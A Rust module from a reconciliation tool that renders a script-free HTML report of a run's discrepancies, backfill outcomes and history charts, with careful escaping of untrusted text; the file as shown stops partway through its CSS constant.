//! `report.html`: one self-contained page per run folder for the morning
//! readers (the on-call engineer and the finance analyst).
//!
//! The page holds no script, loads nothing (a Content-Security-Policy of
//! `default-src 'none'` says so to the browser), and draws its charts as
//! inline SVG, so it can be opened from disk or attached to an email.
//!
//! Its numbers come from the folder it describes: `summary.json` (counts,
//! window, status, per-currency totals as exact minor units), the CSVs
//! beside it (the largest discrepancies, backfill outcomes) and, for the
//! charts, the job's earlier runs in the state store. Money is rendered from
//! minor units with [`format_minor`], never through floating point; every
//! piece of text is HTML-escaped and, as in the CSVs, neutralised against
//! spreadsheet formulas.
//!
//! The markup is written as maud templates (`html!`), one function per
//! section; text that may come from outside goes through [`escape`] (as
//! `Shown`), which also shows hidden characters and escapes `'`.
//!
//! [`write_for_run`] writes the page into a run's staging folder (so it
//! lands with the other files, whole); `recon report` renders it again
//! with [`render_folder`].

use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::Path;

use super::files::{HISTORY_COLUMNS, ID_COLUMN};
use super::summary::{Class, Counts, RunSummary};
use super::{neutralise, ReportDir};
use crate::state::{DiscrepancyHistory, ReportReads};
use crate::state::{RunRow, RunTotals, StateStore};
use anyhow::{Context, Result};
use jiff::Timestamp;
use maud::{html, Markup, PreEscaped, Render, DOCTYPE};
use recon_core::{format_minor, Currency, Money};

/// The page's file name in a run folder.
pub const FILE: &str = "report.html";

/// How many earlier runs the charts show by default.
pub const DEFAULT_RUNS: usize = 30;

/// How many of the largest discrepancies are listed per currency.
pub const TOP_PER_CURRENCY: usize = 10;

/// One run as the charts show it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ChartRun {
    /// The run id.
    pub run_id: String,
    /// When it started, RFC 3339.
    pub started_at: String,
    /// Its status (clean, discrepancies, failed…).
    pub status: String,
    /// Gaps, orphans, mismatches, duplicates; `None` when not recorded.
    pub classes: [Option<u64>; 4],
    /// Target total minus source total per currency, minor units.
    pub deltas: BTreeMap<Currency, i128>,
}

/// One of the largest discrepancies.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TopRow {
    /// gap, orphan or mismatch.
    pub class: &'static str,
    /// The ID, as the CSV holds it.
    pub key: String,
    /// Its amount (a mismatch: target minus source).
    pub minor: i128,
    /// The amount's currency.
    pub currency: Currency,
    /// new or persisting (empty for ad-hoc diffs).
    pub state: String,
    /// First seen, RFC 3339 (empty when unknown).
    pub first_seen: String,
}

/// What backfill.csv and plan.jsonl say.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Backfill {
    /// Outcome → items (created, updated, unchanged, failed, skipped).
    pub outcomes: BTreeMap<String, u64>,
    /// The first refused items: (ID, error).
    pub failures: Vec<(String, String)>,
    /// Items planned in plan.jsonl (a dry run, or a run stopped by a limit).
    pub planned: Option<u64>,
}

/// Everything the page shows.
#[derive(Clone, Debug, Default)]
pub struct Page {
    /// The folder's summary.json.
    pub summary: RunSummary,
    /// The largest discrepancies, per currency, largest first.
    pub top: Vec<TopRow>,
    /// Backfill outcomes.
    pub backfill: Backfill,
    /// The job's runs up to this one, oldest first (this one last).
    pub history: Vec<ChartRun>,
    /// Files beside the page: (link, name).
    pub files: Vec<(String, String)>,
    /// The first copies of duplicate_copies.csv, and how many it lists.
    pub copies: (Vec<CopyLine>, u64),
}

/// How many rows of duplicate_copies.csv the page lists.
pub const COPIES_SHOWN: usize = 50;

/// One copy of a duplicated external ID, as the page lists it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct CopyLine {
    /// The external ID.
    pub key: String,
    /// `source` or `target`.
    pub side: String,
    /// 1 for the copy kept as the reference, higher for those to review.
    pub copy: String,
    /// The system's own ID of the copy (empty when it has none).
    pub native_id: String,
    /// Its amount with currency code (empty without one), formula-safe.
    pub amount: String,
}

/// The column names of the report CSVs that a field of the job may not
/// have (the job config refuses them), and the currency column a field
/// may take the place of: see `files::RESERVED_FIELD_NAMES` and
/// `files::CURRENCY_COLUMN`. report.html reads these columns by name.
pub use super::files::{CURRENCY_COLUMN, RESERVED_FIELD_NAMES};

/// Whether a character changes how the text around it reads without
/// showing itself: bidirectional controls (U+061C, U+200E, U+200F,
/// U+202A–U+202E, U+2066–U+2069), zero-width characters (U+200B–U+200D,
/// U+2060, U+FEFF), the other invisible format characters (U+180E,
/// U+2061–U+2064, U+206A–U+206F) and control characters other than tab
/// and line ends. An ID `ch_\u{202e}fdp.exe` would otherwise read as
/// `ch_exe.pdf` on the page.
pub fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\u{061c}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{206f}'
            | '\u{feff}'
    ) || (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
}

/// Escapes text for HTML element content and quoted attribute values.
/// Characters that [`is_hidden`] are shown as `\u202e` (four hex digits,
/// lower case) instead of acting on the page; the CSV files keep them as
/// they are.
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c if is_hidden(c) => {
                let _ = write!(out, "\\u{:04x}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    out
}

/// Text that may hold characters that [`is_hidden`], rendered through
/// [`escape`]: maud's own escaping leaves those characters (and `'`) as
/// they are, so every piece of text from a report, a source system or the
/// store goes through this instead.
struct Shown<T>(T);

impl<T: AsRef<str>> Render for Shown<T> {
    fn render_to(&self, buffer: &mut String) {
        buffer.push_str(&escape(self.0.as_ref()));
    }
}

/// Text from a report or a source system: formula-safe as in the CSVs
/// (copied into a spreadsheet it stays text), then HTML-escaped.
fn text(s: &str) -> Shown<Cow<'_, str>> {
    Shown(neutralise(s))
}

fn money(minor: i128, currency: Currency) -> String {
    format!("{} {}", format_minor(minor, currency), currency.code())
}

fn signed_money(minor: i128, currency: Currency) -> String {
    let sign = if minor > 0 { "+" } else { "" };
    format!("{sign}{}", money(minor, currency))
}

/// Age between two RFC 3339 instants: `3d 4h`, `5h`, `12m`.
fn age(from: &str, to: &str) -> String {
    let (Ok(a), Ok(b)) = (from.parse::<Timestamp>(), to.parse::<Timestamp>()) else {
        return String::new();
    };
    let secs = b.as_second().saturating_sub(a.as_second()).max(0);
    let (d, h, m) = (secs / 86_400, secs % 86_400 / 3600, secs % 3600 / 60);
    if d > 0 {
        format!("{d}d {h}h")
    } else if h > 0 {
        format!("{h}h")
    } else {
        format!("{m}m")
    }
}

/// The totals of summary.json (`totals.source` / `totals.target`, exact
/// `total_minor` text) as [`RunTotals`] per currency.
pub fn summary_totals(summary: &RunSummary) -> Result<Vec<RunTotals>> {
    let mut by: BTreeMap<Option<Currency>, RunTotals> = BTreeMap::new();
    let Some(totals) = &summary.run.totals else {
        return Ok(Vec::new());
    };
    for (side, list, is_source) in [
        ("source", &totals.source, true),
        ("target", &totals.target, false),
    ] {
        for t in list {
            let currency = t.currency(side)?;
            let (records, minor) = (t.records, t.minor(side)?);
            let e = by.entry(currency).or_insert(RunTotals {
                currency,
                source_records: 0,
                source_minor: 0,
                target_records: 0,
                target_minor: 0,
            });
            if is_source {
                e.source_records = records;
                e.source_minor = minor;
            } else {
                e.target_records = records;
                e.target_minor = minor;
            }
        }
    }
    Ok(by.into_values().collect())
}

/// A run as the chart shows it, from its counts and totals.
pub fn chart_run(
    run_id: &str,
    started_at: &str,
    status: &str,
    counts: Option<&Counts>,
    totals: &[RunTotals],
) -> ChartRun {
    let classes = Class::DISCREPANCIES.map(|c| counts.and_then(|k| k.present(c)));
    let deltas = totals
        .iter()
        .filter_map(|t| Some((t.currency?, t.target_minor - t.source_minor)))
        .collect();
    ChartRun {
        run_id: run_id.to_string(),
        started_at: started_at.to_string(),
        status: status.to_string(),
        classes,
        deltas,
    }
}

/// The status a summary's exit status stands for.
fn status_of(summary: &RunSummary) -> &'static str {
    match summary.run.exit_status {
        Some(0) => "clean",
        Some(1) => "discrepancies",
        Some(2) => "trouble",
        _ => "unknown",
    }
}

/// When the run started, RFC 3339 (summary.json's `timings.started_at`).
fn started_at(summary: &RunSummary) -> Option<&str> {
    summary.run.timings.as_ref().map(|t| t.started_at.as_str())
}

/// Keeps the `n` largest amounts per currency while rows stream past.
struct Largest {
    n: usize,
    by: BTreeMap<Currency, Vec<TopRow>>,
    /// Per currency, once a trim kept `n` rows: the smallest amount among
    /// them. A later row below it can never be among the largest, so it is
    /// not copied (a 200,000-gap report made three strings a row).
    floor: BTreeMap<Currency, u128>,
}

impl Largest {
    fn new(n: usize) -> Largest {
        Largest {
            n,
            by: BTreeMap::new(),
            floor: BTreeMap::new(),
        }
    }

    /// Whether an amount could still be among the largest of its currency
    /// (an equal one may, by its key).
    fn admits(&self, currency: Currency, minor: i128) -> bool {
        self.floor
            .get(&currency)
            .is_none_or(|floor| minor.unsigned_abs() >= *floor)
    }

    fn push(&mut self, row: TopRow) {
        let currency = row.currency;
        let list = self.by.entry(currency).or_default();
        list.push(row);
        if list.len() >= self.n * 4 + 16 {
            Self::trim(list, self.n);
            if let Some(last) = list.last().filter(|_| list.len() == self.n) {
                self.floor.insert(currency, last.minor.unsigned_abs());
            }
        }
    }

    fn trim(list: &mut Vec<TopRow>, n: usize) {
        list.sort_by(|a, b| {
            b.minor
                .unsigned_abs()
                .cmp(&a.minor.unsigned_abs())
                .then_with(|| a.key.cmp(&b.key))
        });
        list.truncate(n);
    }

    /// Offers every row `other` kept: what either list would keep, this
    /// one now keeps.
    fn merge(&mut self, other: Largest) {
        for row in other.by.into_values().flatten() {
            if self.admits(row.currency, row.minor) {
                self.push(row);
            }
        }
    }

    fn finish(self) -> Vec<TopRow> {
        let n = self.n;
        self.by
            .into_values()
            .flat_map(|mut l| {
                Self::trim(&mut l, n);
                l
            })
            .collect()
    }
}

/// A row type a report CSV is read into: text (checked as UTF-8 whole)
/// or raw bytes.
trait ReportRow: Default {
    fn read_next(r: &mut csv::Reader<std::fs::File>, row: &mut Self) -> csv::Result<bool>;
}

impl ReportRow for csv::StringRecord {
    fn read_next(r: &mut csv::Reader<std::fs::File>, row: &mut Self) -> csv::Result<bool> {
        r.read_record(row)
    }
}

impl ReportRow for csv::ByteRecord {
    fn read_next(r: &mut csv::Reader<std::fs::File>, row: &mut Self) -> csv::Result<bool> {
        r.read_byte_record(row)
    }
}

/// Reads a report CSV's rows after its header, calling `each` with each
/// row; an error (reading, or `each`'s) names the file.
fn rows<R: ReportRow>(path: &Path, mut each: impl FnMut(&R) -> Result<()>) -> Result<()> {
    let shown = || format!("cannot read {}", path.display());
    let mut r = csv::Reader::from_path(path).with_context(shown)?;
    let mut row = R::default();
    while R::read_next(&mut r, &mut row).with_context(shown)? {
        each(&row).with_context(shown)?;
    }
    Ok(())
}

/// [`rows`] as text.
fn each_row(path: &Path, each: impl FnMut(&csv::StringRecord) -> Result<()>) -> Result<()> {
    rows(path, each)
}

/// [`rows`] as raw bytes: no UTF-8 check of the cells a caller does not
/// read (report.html reads every gap, orphan and mismatch row for a few of
/// them).
fn each_byte_row(path: &Path, each: impl FnMut(&csv::ByteRecord) -> Result<()>) -> Result<()> {
    rows(path, each)
}

/// A cell of a row read by [`each_byte_row`], as text; an error when it
/// is not UTF-8 (no report file recon writes holds such a cell).
fn cell(row: &csv::ByteRecord, i: usize) -> Result<&str> {
    std::str::from_utf8(&row[i]).map_err(|e| {
        let line = row.position().map_or(0, |p| p.line());
        anyhow::anyhow!("line {line}, column {}: not UTF-8 ({e})", i + 1)
    })
}

fn header(path: &Path) -> Result<Vec<String>> {
    let mut r =
        csv::Reader::from_path(path).with_context(|| format!("cannot read {}", path.display()))?;
    Ok(r.headers()?.iter().map(str::to_string).collect())
}

/// The largest gaps, orphans and mismatches of a folder's CSVs, by amount
/// per currency. `money_field` is the job's money field (the amount
/// column of gaps.csv and orphans.csv).
pub fn largest(folder: &Path, money_field: Option<&str>, n: usize) -> Result<Vec<TopRow>> {
    // One file's largest rows, in a list of its own ([`FileTop`]; a file
    // without the columns, or no file, lists nothing).
    let top_of = |file: &str, kind: TopFile| {
        let path = folder.join(file);
        if !path.is_file() {
            return Ok(None);
        }
        let Some(mut top) = FileTop::new(kind, &header(&path)?, money_field, n) else {
            return Ok(None);
        };
        each_byte_row(&path, |row| top.offer(|i| cell(row, i).map(Cow::Borrowed)))?;
        anyhow::Ok(Some(top))
    };
    // Each file into a list of its own, gaps.csv on a thread beside the
    // others (a 2M-row run's three files: 25 ms read one after the other),
    // then merged ([`merge_largest`]).
    let (gaps, orphans, mismatches) = std::thread::scope(|scope| {
        let gaps = scope.spawn(|| top_of("gaps.csv", TopFile::Gaps));
        let orphans = top_of("orphans.csv", TopFile::Orphans);
        let mismatches = top_of("mismatches.csv", TopFile::Mismatches);
        let gaps = gaps
            .join()
            .unwrap_or_else(|panic| std::panic::resume_unwind(panic));
        (gaps, orphans, mismatches)
    });
    Ok(merge_largest([gaps?, orphans?, mismatches?], n))
}

/// The largest rows of gaps.csv, orphans.csv and mismatches.csv (each
/// file's own list, in that order; `None`: the file lists nothing): a row
/// any list kept is offered to the first.
pub fn merge_largest(files: [Option<FileTop<'_>>; 3], n: usize) -> Vec<TopRow> {
    let mut top = Largest::new(n);
    for list in files.into_iter().flatten() {
        top.merge(list.top);
    }
    top.finish()
}

/// A report file whose largest rows report.html lists.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TopFile {
    /// gaps.csv: the money field's own column is the amount.
    Gaps,
    /// orphans.csv, as gaps.csv.
    Orphans,
    /// mismatches.csv: a row per field, the difference as the amount; only
    /// rows of the money field are offered.
    Mismatches,
}

/// The largest rows of one report file, offered row by row: as the file
/// is read back (`recon report`), or as its rows are written (a run: the
/// cells it writes, before [`neutralise`], which the columns apply as the
/// file would hold them).
pub struct FileTop<'a> {
    class: &'static str,
    columns: TopColumns,
    /// mismatches.csv: the column naming the field, and the money field.
    field: Option<(usize, &'a str)>,
    top: Largest,
    /// A written row could not be offered: the list is not used, and the
    /// page reads the file back (where the same error fails only the page).
    failed: bool,
}

impl<'a> FileTop<'a> {
    /// A list for `kind`'s file with header `header` (as the file holds
    /// it); `None` when the header lacks the ID, amount or currency column.
    pub fn new(
        kind: TopFile,
        header: &[String],
        money_field: Option<&'a str>,
        n: usize,
    ) -> Option<FileTop<'a>> {
        let col = |name: &str| header.iter().position(|c| c == name);
        let (class, [key, amount, cur], field) = match kind {
            TopFile::Gaps | TopFile::Orphans => {
                let cur = header.iter().rposition(|c| c == CURRENCY_COLUMN)?;
                let class = if kind == TopFile::Gaps {
                    "gap"
                } else {
                    "orphan"
                };
                (class, [col(ID_COLUMN)?, col(money_field?)?, cur], None)
            }
            TopFile::Mismatches => {
                let at = [col(ID_COLUMN)?, col("difference")?, col("currency")?];
                ("mismatch", at, Some((col("field")?, money_field)))
            }
        };
        // A mismatches.csv without a money field offers every row whose
        // field column exists (as its reader always did).
        let field = field.and_then(|(i, f)| f.map(|f| (i, f)));
        Some(FileTop {
            class,
            columns: TopColumns {
                key,
                amount,
                cur,
                state: col(HISTORY_COLUMNS[1]),
                first: col(HISTORY_COLUMNS[0]),
            },
            field,
            top: Largest::new(n),
            failed: false,
        })
    }

    /// The list untied from the money field's name, for a file written on
    /// a thread of its own; `None` for a list that keeps the name (a
    /// mismatches.csv's, whose rows it filters by field).
    pub fn detached(self) -> Option<FileTop<'static>> {
        let FileTop {
            class,
            columns,
            field: None,
            top,
            failed,
        } = self
        else {
            return None;
        };
        Some(FileTop {
            class,
            columns,
            field: None,
            top,
            failed,
        })
    }

    /// Offers one row, given its cells by column (as the file holds them).
    pub fn offer<'r>(&mut self, cell: impl Fn(usize) -> Result<Cow<'r, str>>) -> Result<()> {
        if let Some((i, f)) = self.field {
            if cell(i).ok().as_deref() != Some(f) {
                return Ok(());
            }
        }
        self.columns.offer(&mut self.top, self.class, cell)
    }

    /// Offers one row as a run writes it: its cells before [`neutralise`].
    /// A row that cannot be offered marks the list failed ([`Self::failed`]),
    /// never the file being written.
    pub fn offer_written(&mut self, cells: &[String]) {
        if self.failed {
            return;
        }
        let offered = self.offer(|i| {
            cells
                .get(i)
                .map(|c| neutralise(c))
                .ok_or_else(|| anyhow::anyhow!("no column {}", i + 1))
        });
        self.failed = offered.is_err();
    }

    /// Whether a written row could not be offered (the list is incomplete).
    pub fn failed(&self) -> bool {
        self.failed
    }
}

/// Where a report file keeps what the page lists of a row: its ID, amount
/// (a mismatch: the difference), currency, and history cells.
struct TopColumns {
    key: usize,
    amount: usize,
    cur: usize,
    state: Option<usize>,
    first: Option<usize>,
}

impl TopColumns {
    /// Offers a row to `top`; its cells are copied only if it may be among
    /// the largest. A row without a readable amount is not listed.
    fn offer<'r>(
        &self,
        top: &mut Largest,
        class: &'static str,
        cell: impl Fn(usize) -> Result<Cow<'r, str>>,
    ) -> Result<()> {
        let Ok(currency) = Currency::parse(&cell(self.cur)?) else {
            return Ok(());
        };
        let Ok(m) = Money::parse_major(&cell(self.amount)?, currency) else {
            return Ok(());
        };
        if !top.admits(currency, i128::from(m.minor)) {
            return Ok(());
        }
        let text = |i: Option<usize>| -> Result<String> {
            Ok(i.map(&cell).transpose()?.unwrap_or_default().into_owned())
        };
        top.push(TopRow {
            class,
            key: cell(self.key)?.into_owned(),
            minor: i128::from(m.minor),
            currency,
            state: text(self.state)?,
            first_seen: text(self.first)?,
        });
        Ok(())
    }
}

/// The first `n` rows of a folder's duplicate_copies.csv, and how many it
/// has (none when the file is absent). The four leading columns are read
/// by position (a job field may share their names), the amount by the
/// money field's name after them, its currency from the last `currency`
/// column.
pub fn copies(folder: &Path, money_field: Option<&str>, n: usize) -> Result<(Vec<CopyLine>, u64)> {
    let path = folder.join(super::copies::FILE);
    if !path.is_file() {
        return Ok((Vec::new(), 0));
    }
    let h = header(&path)?;
    let lead = super::copies::COLUMNS.len();
    let amount =
        money_field.and_then(|f| h.iter().skip(lead).position(|c| c == f).map(|i| i + lead));
    let cur = h
        .iter()
        .rposition(|c| c == CURRENCY_COLUMN)
        .filter(|i| *i >= lead);
    let (mut lines, mut count) = (Vec::new(), 0u64);
    each_row(&path, |row| {
        count += 1;
        if lines.len() < n && row.len() >= lead {
            // An amount recon formats itself, or the cell as text
            // (formula-safe, as everywhere on the page).
            let raw = |i: usize| neutralise(&row[i]).into_owned();
            let shown = match (amount, cur) {
                (Some(a), Some(c)) => match Currency::parse(&row[c]) {
                    Ok(currency) => Money::parse_major(&row[a], currency)
                        .map(|m| money(i128::from(m.minor), currency))
                        .unwrap_or_else(|_| raw(a)),
                    Err(_) => raw(a),
                },
                (Some(a), None) => raw(a),
                _ => String::new(),
            };
            lines.push(CopyLine {
                key: row[0].to_string(),
                side: row[1].to_string(),
                copy: row[2].to_string(),
                native_id: row[3].to_string(),
                amount: shown,
            });
        }
        Ok(())
    })?;
    Ok((lines, count))
}

/// How many refused items the page names.
const FAILURES_SHOWN: usize = 20;

impl Backfill {
    /// What [`backfill`] reads back from a folder whose backfill.csv was
    /// written from `rows` and whose plan.jsonl holds `planned` lines,
    /// found from the rows themselves (IDs and errors as the file holds
    /// them, neutralised): a run has them in memory, and a 200,000-item
    /// backfill read its own backfill.csv back on its tail.
    pub fn of_rows(rows: Option<&[super::BackfillRow]>, planned: Option<u64>) -> Backfill {
        let mut out = Backfill {
            planned,
            ..Backfill::default()
        };
        for r in rows.unwrap_or_default() {
            out.count(r.outcome.as_str(), || {
                (
                    neutralise(&r.key).into_owned(),
                    neutralise(&r.error).into_owned(),
                )
            });
        }
        out
    }

    /// Counts one item of `outcome`; a refused one among the first
    /// [`FAILURES_SHOWN`] is named by `failure` (its ID and error as
    /// backfill.csv holds them).
    fn count(&mut self, outcome: &str, failure: impl FnOnce() -> (String, String)) {
        match self.outcomes.get_mut(outcome) {
            Some(n) => *n += 1,
            None => {
                self.outcomes.insert(outcome.to_string(), 1);
            }
        }
        if outcome == "failed" && self.failures.len() < FAILURES_SHOWN {
            self.failures.push(failure());
        }
    }
}

/// Backfill outcomes from backfill.csv, and plan.jsonl's size.
pub fn backfill(folder: &Path) -> Result<Backfill> {
    let mut out = Backfill::default();
    let path = folder.join("backfill.csv");
    if path.is_file() {
        let h = header(&path)?;
        let col = |name: &str| h.iter().position(|c| c == name);
        if let (Some(key), Some(outcome), Some(error)) =
            (col(ID_COLUMN), col("outcome"), col("error"))
        {
            each_row(&path, |row| {
                out.count(&row[outcome], || {
                    (row[key].to_string(), row[error].to_string())
                });
                Ok(())
            })?;
        }
    }
    let plan = folder.join(crate::plan::PLAN_FILE);
    if plan.is_file() {
        use std::io::BufRead;
        let f = std::fs::File::open(&plan)
            .with_context(|| format!("cannot read {}", plan.display()))?;
        let mut lines = 0u64;
        for line in std::io::BufReader::new(f).lines() {
            if !line?.trim().is_empty() {
                lines += 1;
            }
        }
        out.planned = Some(lines);
    }
    Ok(out)
}

/// The report files in a folder (CSV, JSON Lines, summary.json), sorted.
fn files(folder: &Path) -> Result<Vec<String>> {
    let mut names: Vec<String> = std::fs::read_dir(folder)
        .with_context(|| format!("cannot read the report folder {}", folder.display()))?
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".csv") || n.ends_with(".jsonl") || n == "summary.json")
        .collect();
    names.sort();
    Ok(names)
}

/// Appends one path segment to a URL, percent-encoding every byte but
/// the unreserved ones (RFC 3986: letters, digits, `-._~`): a `/`, `#`,
/// `?` or `%` in a job name (a report folder's name) is then part of the
/// segment, not the URL's structure.
pub fn push_segment(out: &mut String, segment: &str) {
    for b in segment.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            b => {
                let _ = write!(out, "%{b:02X}");
            }
        }
    }
}

/// A link to the file `name` under `prefix` (already a URL path: `""`, or
/// segments encoded by [`push_segment`], each ending in `/`).
fn href(prefix: &str, name: &str) -> String {
    let mut out = String::from(prefix);
    push_segment(&mut out, name);
    out
}

/// The job's runs before `this` (by start; all of them when the store
/// does not know `this`), the newest `limit - 1` of them that reconciled
/// (have class counts), oldest first, then `this`.
pub async fn chart_history(
    state: &StateStore,
    job: &str,
    this: ChartRun,
    limit: usize,
) -> Result<Vec<ChartRun>> {
    let earlier = earlier_runs(state, job, &this.run_id, limit.saturating_sub(1)).await?;
    let ids: Vec<String> = earlier.iter().map(|r| r.id.clone()).collect();
    let totals = state.run_totals(&ids).await?;
    let mut out: Vec<ChartRun> = earlier
        .iter()
        .rev()
        .map(|r| {
            chart_run(
                &r.id,
                &recon_core::format_timestamp(r.started_at),
                r.status.as_str(),
                r.counts.as_ref().map(Counts::of_json).as_ref(),
                totals.get(&r.id).map(Vec::as_slice).unwrap_or(&[]),
            )
        })
        .collect();
    if limit > 0 {
        out.push(this);
    }
    Ok(out)
}

/// The `n` runs of `job` before `run_id` (newest first; before every run
/// when `run_id` is not the job's) that recorded their counts. Listed a
/// page at a time, newest first, each page four times the last: the
/// charts show 30 runs, and listing every run of a job that had run
/// 10,000 times took 80-170 ms of each run's end.
async fn earlier_runs(
    state: &StateStore,
    job: &str,
    run_id: &str,
    n: usize,
) -> Result<Vec<RunRow>> {
    if n == 0 {
        return Ok(Vec::new());
    }
    let mut page = n.saturating_mul(4).saturating_add(1);
    loop {
        let runs = state.recent_runs(Some(job), page).await?;
        let every = runs.len() < page;
        // Newest first: the runs after this one in the list started before it.
        let at = runs.iter().position(|r| r.id == run_id);
        if at.is_some() || every {
            let earlier: Vec<RunRow> = runs
                .into_iter()
                .skip(at.map_or(0, |i| i + 1))
                .filter(|r| {
                    r.counts
                        .as_ref()
                        .is_some_and(|c| Counts::of_json(c).present(Class::Gaps).is_some())
                })
                .take(n)
                .collect();
            if every || earlier.len() == n {
                return Ok(earlier);
            }
        }
        page = page.saturating_mul(4);
    }
}

/// Builds the page of the report folder `folder` (committed or staged),
/// with charts from the store. Links point to the files by `link_prefix`
/// (`""` when the page sits in the folder). Records the run's totals in
/// the store when `record` is set.
pub async fn render_folder(
    folder: &Path,
    state: &StateStore,
    job: &str,
    money_field: Option<&str>,
    runs: usize,
    link_prefix: &str,
    record: bool,
) -> Result<String> {
    let summary = RunSummary::read(&folder.join("summary.json"))?;
    render_page(
        folder,
        state,
        job,
        money_field,
        runs,
        link_prefix,
        record,
        summary,
        (None, None),
    )
    .await
}

/// [`render_folder`] with the folder's summary given, and the largest
/// rows when they were found as the files were written ([`largest`] of
/// the folder when `None`).
#[allow(clippy::too_many_arguments)]
async fn render_page(
    folder: &Path,
    state: &StateStore,
    job: &str,
    money_field: Option<&str>,
    runs: usize,
    link_prefix: &str,
    record: bool,
    summary: RunSummary,
    (top, known_backfill): (Option<Vec<TopRow>>, Option<Backfill>),
) -> Result<String> {
    let totals = summary_totals(&summary)?;
    let run_id = summary.run.run_id.clone().unwrap_or_default();
    if record && !run_id.is_empty() {
        state.record_run_totals(&run_id, &totals).await?;
    }
    let this = chart_run(
        &run_id,
        started_at(&summary).unwrap_or(""),
        status_of(&summary),
        Some(&summary.counts),
        &totals,
    );
    let history = chart_history(state, job, this, runs).await?;
    let page = Page {
        top: match top {
            Some(top) => top,
            None => largest(folder, money_field, TOP_PER_CURRENCY)?,
        },
        backfill: match known_backfill {
            Some(b) => b,
            None => backfill(folder)?,
        },
        copies: copies(folder, money_field, COPIES_SHOWN)?,
        files: files(folder)?
            .into_iter()
            .map(|n| (href(link_prefix, &n), n))
            .collect(),
        history,
        summary,
    };
    Ok(render(&page))
}

/// Writes report.html into a run's staging folder: the run's totals are
/// recorded in the store and the charts drawn from the job's last
/// [`DEFAULT_RUNS`] runs. Call it after the other files are staged;
/// `top` is what [`largest`] finds in them, when the run found it as it
/// wrote them ([`super::write_diff_files`]), and `backfill` what
/// [`backfill`] reads of them, when the run has the rows
/// ([`Backfill::of_rows`]).
///
/// The page is a view of files already staged: when it cannot be made,
/// the run (or apply) is not failed for it. A warning is logged (scrubbed),
/// the reason is added to summary.json's `notes`, and the folder is
/// committed without the page (`recon report` can make it later); the
/// note is added to `summary` too. Only a summary.json that cannot be
/// rewritten is an error.
pub async fn write_for_run(
    dir: &mut ReportDir,
    state: &StateStore,
    job: &str,
    money_field: Option<&str>,
    summary: &mut RunSummary,
    top: Option<Vec<TopRow>>,
    backfill: Option<Backfill>,
) -> Result<()> {
    let known = (top, backfill);
    let Err(e) = try_write_for_run(dir, state, job, money_field, summary, known).await else {
        return Ok(());
    };
    let _ = std::fs::remove_file(dir.staged(FILE));
    warn_in_summary(dir, summary, &e, |why| {
        format!(
            "report.html was not written ({why}); the CSV files and summary.json are complete; `recon report --job {job}` makes the page again"
        )
    })
}

/// A failure of the page's work that fails nothing else: logged as a
/// warning (scrubbed) and added to `summary`'s notes, summary.json written
/// again. `note` says what happened, given the scrubbed reason.
fn warn_in_summary(
    dir: &mut ReportDir,
    summary: &mut RunSummary,
    e: &anyhow::Error,
    note: impl FnOnce(&str) -> String,
) -> Result<()> {
    let note = note(&recon_core::scrub(&format!("{e:#}")));
    crate::logging::stderr_line("warning", &note);
    summary.add_note(note);
    super::write_summary(dir, summary)
}

async fn try_write_for_run(
    dir: &mut ReportDir,
    state: &StateStore,
    job: &str,
    money_field: Option<&str>,
    summary: &RunSummary,
    known: (Option<Vec<TopRow>>, Option<Backfill>),
) -> Result<()> {
    if crate::faults::html_fails() {
        anyhow::bail!("injected failure ({})", crate::faults::FAULT_HTML_FAILS);
    }
    let folder = dir.staged("");
    let (runs, summary) = (DEFAULT_RUNS, summary.clone());
    // The page draws this run from its summary; its totals are recorded
    // for later runs' charts by [`record_totals`], once the history's
    // write has freed SQLite's one writer (the page waited on it before).
    let html = render_page(
        &folder,
        state,
        job,
        money_field,
        runs,
        "",
        false,
        summary,
        known,
    )
    .await?;
    dir.write_all(FILE, html.as_bytes())
}

/// Records a run's per-currency totals in the store, for the charts of
/// later runs' pages. A failure is a warning and a note in `summary` (and
/// its summary.json), as a page that could not be made is: the charts
/// then miss this run.
pub async fn record_totals(
    dir: &mut ReportDir,
    state: &StateStore,
    summary: &mut RunSummary,
) -> Result<()> {
    let run_id = summary.run.run_id.clone().unwrap_or_default();
    if run_id.is_empty() {
        return Ok(());
    }
    let recorded = async {
        let totals = summary_totals(summary)?;
        state.record_run_totals(&run_id, &totals).await?;
        anyhow::Ok(())
    };
    let Err(e) = recorded.await else {
        return Ok(());
    };
    warn_in_summary(dir, summary, &e, |why| {
        format!("this run's totals were not recorded for later charts ({why}); the reports are complete")
    })
}

const STYLE: &str = "\
body{font:14px/1.45 system-ui,-apple-system,'Segoe UI',Roboto,sans-serif;margin:24px;color:#1d2430;max-width:1100px}\
h1{font-size:22px;margin:0 0 4px}h2{font-size:17px;margin:28px 0 8px;border-bottom:1px solid #dde2ea;padding-bottom:4px}\
table{border-collapse:collapse;margin:4px 0}th,td{padding:4px 10px;border-bottom:1px solid #eef1f5;text-align:left}\
td.n,th.n{text-align:right;font-variant-numeric:tabular-nums}\
.badge{display:inline-block;padding:2px 10px;border-radius:10px;font-weight:600;color:#fff}\
.clean{background:#2e7d32}.discrepancies{background:#b26a00}.trouble,.failed,.crashed{background:#c62828}.unknown,.running{background:#607d8b}\
.meta{color:#526070}.charts{display:flex;flex-wrap:wrap;gap:16px}figure{margin:0}figcaption{font-weight:600;margin-bottom:2px}\
svg text{font:11px system-ui,sans-serif;fill:#526070}.neg{color:#c62828}.note{background:#fff8e1;padding:6px 10px;margin:4px 0}\
